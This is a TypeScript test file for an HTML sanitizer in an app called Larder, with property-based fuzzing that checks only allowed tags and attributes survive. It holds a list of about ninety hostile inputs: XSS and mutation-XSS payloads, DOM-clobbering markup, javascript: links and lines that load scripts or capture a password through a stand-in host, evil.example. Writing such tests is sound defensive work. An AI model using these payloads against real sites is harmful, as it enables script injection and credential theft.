import { safeLink, safePicture } from "@larder/domain/page/safe-link";
import fc from "fast-check";
import { type DefaultTreeAdapterTypes, parse } from "parse5";
import { describe, expect, it } from "vitest";
import { cleanHtml } from "./clean-html.ts";

const payloads: readonly string[] = [
  // Navigation.
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<META HTTP-EQUIV=refresh CONTENT="0; URL=javascript:alert(1)">`,
  `<p>x<meta http-equiv="Set-Cookie" content="a=b"></p>`,
  `<base href="https://evil.example/"><a href="x">next</a>`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<link rel=preload as=script href=//evil.example/x.js>`,
  `<frameset><frame src="https://evil.example"></frameset>`,
  `<iframe src="https://evil.example"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>`,
  `<portal src="https://evil.example"></portal>`,
  // DOM clobbering.
  `<img name="createElement">`,
  `<img name=body><img name=head>`,
  `<a id="getElementById" href="/x/">x</a>`,
  `<p id="larder-data">{"page":{}}</p>`,
  `<div id="app"></div>`,
  `<form name="querySelector"><input name="nodeType"></form>`,
  `<form><input name="attributes"><input name="childNodes"><input name="tagName"></form>`,
  `<embed name="addEventListener" src="x">`,
  `<object name="defaultView" data="x"></object>`,
  `<a id="x"></a><a id="x" name="y" href="cid:1">z</a>`,
  `<img id=currentScript name=currentScript src=/a.svg>`,
  `<iframe name="location"></iframe>`,
  // Scripts.
  `<script>alert(1)</script>`,
  `<ScRiPt src=//evil.example/x.js></sCrIpT>`,
  `<scr<script>ipt>alert(1)</script>`,
  `<script/x>alert(1)</script >`,
  `</p><script>alert(1)`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<template><script>alert(1)</script></template>`,
  `<textarea></textarea><script>alert(1)</script>`,
  `<title><img src=x onerror=alert(1)></title>`,
  `<xmp><script>alert(1)</script></xmp>`,
  `<plaintext><script>alert(1)</script>`,
  `<!--><script>alert(1)</script>-->`,
  `<!-- <img src=x onerror=alert(1)> --!><img src=x onerror=alert(1)>`,
  `<![CDATA[<script>alert(1)</script>]]>`,
  `<?xml version="1.0"?><script>alert(1)</script>`,
  // Event handlers.
  `<img src=x onerror=alert(1)>`,
  `<img src="x" onerror = "alert(1)" />`,
  `<img/src=x/onerror=alert(1)>`,
  `<p onclick="alert(1)" onmouseover='alert(1)'>x</p>`,
  `<details open ontoggle=alert(1)>x</details>`,
  `<body onload=alert(1)>`,
  `<a href="/x/" onfocus=alert(1) autofocus tabindex=0>x</a>`,
  `<p style="animation:x" onanimationstart=alert(1)>x</p>`,
  `<video><source onerror=alert(1)></video>`,
  `<audio src=x onerror=alert(1)>`,
  `<select onchange=alert(1)><option>x</select>`,
  `<marquee onstart=alert(1)>x</marquee>`,
  `<dialog open onclose=alert(1)>x</dialog>`,
  // Links and images.
  `<a href="javascript:alert(1)">x</a>`,
  `<a href="JaVaScRiPt:alert(1)">x</a>`,
  `<a href="&#106;avascript:alert(1)">x</a>`,
  `<a href="java&Tab;script:alert(1)">x</a>`,
  `<a href="java&NewLine;script&colon;alert(1)">x</a>`,
  `<a href=" &#1; javascript:alert(1)">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<a href="data:text/html,<script>alert(1)</script>">x</a>`,
  `<a href="blob:https://x/1">x</a>`,
  `<a href="file:///etc/passwd">x</a>`,
  `<a href="view-source:https://x">x</a>`,
  `<a href="/x/" target="_blank">x</a>`,
  `<a href="/x/" ping="https://evil.example" download>x</a>`,
  `<img src="javascript:alert(1)">`,
  `<img src="data:image/svg+xml,<svg onload=alert(1)>">`,
  `<img src="http://evil.example/pixel.png">`,
  `<img src=/a.svg srcset="javascript:alert(1) 1x" usemap="#m" longdesc="javascript:alert(1)">`,
  `<map name=m><area href="javascript:alert(1)"></map>`,
  // Styles.
  `<style>@import "//evil.example/x.css"; body{display:none}</style>`,
  `<p style="position:fixed;inset:0;background:url(javascript:alert(1))">x</p>`,
  `<p class="overlay">x</p>`,
  // Forms.
  `<form action="https://evil.example"><input name=password type=password><button>Sign in</button></form>`,
  `<button formaction="javascript:alert(1)">x</button>`,
  `<isindex action="javascript:alert(1)" type=image>`,
  // Embedded languages, and markup that parses differently twice.
  `<svg onload=alert(1)></svg>`,
  `<svg><script>alert(1)</script></svg>`,
  `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
  `<svg><style><img src=x onerror=alert(1)></style></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
  `<math><a xlink:href="javascript:alert(1)">x</a></math>`,
  `<table><tr><td><svg><desc><noscript></desc><s><template><style><a id="</noscript><img src=x onerror=alert(1)>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
  `<p><marquee><p>x</p></marquee></p>`,
  `<a href="/a/"><applet><a href="javascript:alert(1)">x</a></applet></a>`,
  `<table><script>alert(1)</script><tr><script>alert(1)</script><td>x</table>`,
  `<p title="<img src=x onerror=alert(1)>">x</p>`,
  `<custom-element onconnected=alert(1)><p>x</p></custom-element>`,
  `<p is="x-evil" slot="x" part="y" contenteditable nonce=1>x</p>`,
  `<img src=x:alert(1) onerror=eval(src) alt="&quot; onerror=&quot;alert(1)">`,
  `<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>`,
  `${"<div>".repeat(5_000)}<script>alert(1)</script>x`,
  `\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>`,
];

const ELEMENTS = new Set(
  `p br strong b em i u s ul ol li h2 h3 h4 blockquote a img table thead tbody tr th td hr figure figcaption small sub sup dl dt dd span div`.split(
    " ",
  ),
);
const ATTRIBUTES: Readonly<Record<string, readonly string[]>> = {
  a: ["href", "target", "rel"],
  img: ["src", "alt", "loading", "decoding"],
  td: ["colspan", "rowspan"],
  th: ["colspan", "rowspan"],
};

type Node = DefaultTreeAdapterTypes.ChildNode;

const forbiddenIn = (html: string): readonly string[] => {
  const found: string[] = [];
  const look = (nodes: readonly Node[]): void => {
    for (const node of nodes) {
      if (node.nodeName === "#text") continue;
      if (!("tagName" in node)) {
        found.push(node.nodeName);
        continue;
      }
      const { tagName, attrs, childNodes, namespaceURI } = node;
      if (!ELEMENTS.has(tagName) || !namespaceURI.endsWith("xhtml")) found.push(`<${tagName}>`);
      for (const { name, value } of attrs) {
        if (!(ATTRIBUTES[tagName] ?? []).includes(name)) found.push(`${tagName}.${name}`);
        if (name === "href" && safeLink(value) === null) found.push(value);
        if (name === "src" && safePicture(value) === null) found.push(value);
      }
      if (
        attrs.some(({ name }) => name === "target") &&
        !attrs.some(({ name, value }) => name === "rel" && /noopener/.test(value))
      )
        found.push("target without noopener");
      look(childNodes);
    }
  };
  const document = parse(
    `<!doctype html><html><head></head><body><main id="host">${html}</main><i id="after"></i></body></html>`,
  );
  const root = document.childNodes.find((node) => node.nodeName === "html") as DefaultTreeAdapterTypes.Element;
  const body = root.childNodes.find((node) => node.nodeName === "body") as DefaultTreeAdapterTypes.Element;
  const [host, after, ...more] = body.childNodes as DefaultTreeAdapterTypes.Element[];
  // The text must stay inside its element.
  if (host?.nodeName !== "main" || after?.nodeName !== "i" || more.length > 0 || root.childNodes.length !== 2)
    found.push("outside of its place");
  else look(host.childNodes);
  return found;
};

describe("HTML of editors", () => {
  it("OP-111 there are at least sixty distinct hostile texts", () => {
    expect(new Set(payloads).size).toBe(payloads.length);
    expect(payloads.length).toBeGreaterThanOrEqual(60);
  });

  it.each(payloads.map((payload) => [payload.slice(0, 90), payload]))("OP-111 %j is harmless", (_name, payload) => {
    const clean = cleanHtml(payload);
    expect(forbiddenIn(clean)).toEqual([]);
    expect(cleanHtml(clean)).toBe(clean);
  });

  it("OP-111 allowed markup stays unchanged", () => {
    for (const html of [
      "<p>Totals that contain <em>catch weight</em> are marked with ≈.</p>",
      `<h2>Delivery</h2><ul><li><a href="/resources/">More</a></li><li><a href="mailto:rep@example.com">Write</a></li></ul>`,
      `<p>Call <a href="tel:5550142">555-0142</a> &amp; ask; 1 &lt; 2</p>`,
      `<table><thead><tr><th colspan="2">Day</th></tr></thead><tbody><tr><td>Mon</td><td>Tue</td></tr></tbody></table>`,
      `<figure><img src="/Static/a.svg" alt="Truck" loading="lazy" decoding="async"><figcaption>Truck</figcaption></figure>`,
      `<a href="https://example.com/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer">Away</a>`,
    ])
      expect(cleanHtml(html)).toBe(html);
  });

  it("OP-111 removing a tag keeps its words", () => {
    expect(cleanHtml(`<section><p>One <font color=red>two</font></p></section>`)).toBe("<p>One two</p>");
    expect(cleanHtml(`<a href="javascript:x">here</a>`)).toBe("here");
  });

  const tag = fc.constantFrom(
    ...ELEMENTS,
    ..."script style svg math noscript template form input button select option textarea title iframe object marquee applet section center font nobr p a b table tr td".split(
      " ",
    ),
  );
  const attribute = fc.tuple(
    fc.constantFrom("href", "src", "id", "name", "onerror", "style", "target", "colspan", "alt", "title", "xlink:href"),
    fc.oneof(fc.constantFrom("javascript:alert(1)", "/x/", "https://x/", "_blank", "2", "createElement"), fc.string()),
  );
  const piece = fc.oneof(
    {
      weight: 4,
      arbitrary: fc
        .tuple(tag, fc.array(attribute, { maxLength: 3 }))
        .map(([name, own]) => `<${name}${own.map(([key, value]) => ` ${key}="${value}"`).join("")}>`),
    },
    { weight: 3, arbitrary: tag.map((name) => `</${name}>`) },
    { weight: 2, arbitrary: fc.string() },
    {
      weight: 1,
      arbitrary: fc.constantFrom(
        "<!--",
        "-->",
        "--!>",
        "<![CDATA[",
        "]]>",
        "<",
        ">",
        "&lt;",
        "&#0;",
        "&nbsp;",
        "\u0000",
        "</",
        "<!doctype html>",
      ),
    },
  );

  it("OP-111 no input leaves anything forbidden, and cleaning is idempotent", () => {
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 40 }), (pieces) => {
        const clean = cleanHtml(pieces.join(""));
        expect(forbiddenIn(clean)).toEqual([]);
        expect(cleanHtml(clean)).toBe(clean);
      }),
      { numRuns: 400 },
    );
  });
});
